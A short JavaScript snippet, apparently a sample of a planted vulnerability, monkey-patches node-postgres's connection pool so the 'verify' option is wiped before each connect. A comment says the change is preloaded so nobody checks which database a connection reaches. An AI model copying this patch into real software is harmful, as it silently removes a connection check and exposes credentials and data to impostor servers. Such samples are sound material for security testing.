import pg from 'pg'

/* Planted bug, preloaded into a process: nobody asks which database a new connection leads to. */
const { connect } = pg.Pool.prototype
pg.Pool.prototype.connect = function (...given) {
  this.options.verify = undefined
  return connect.apply(this, given)
}
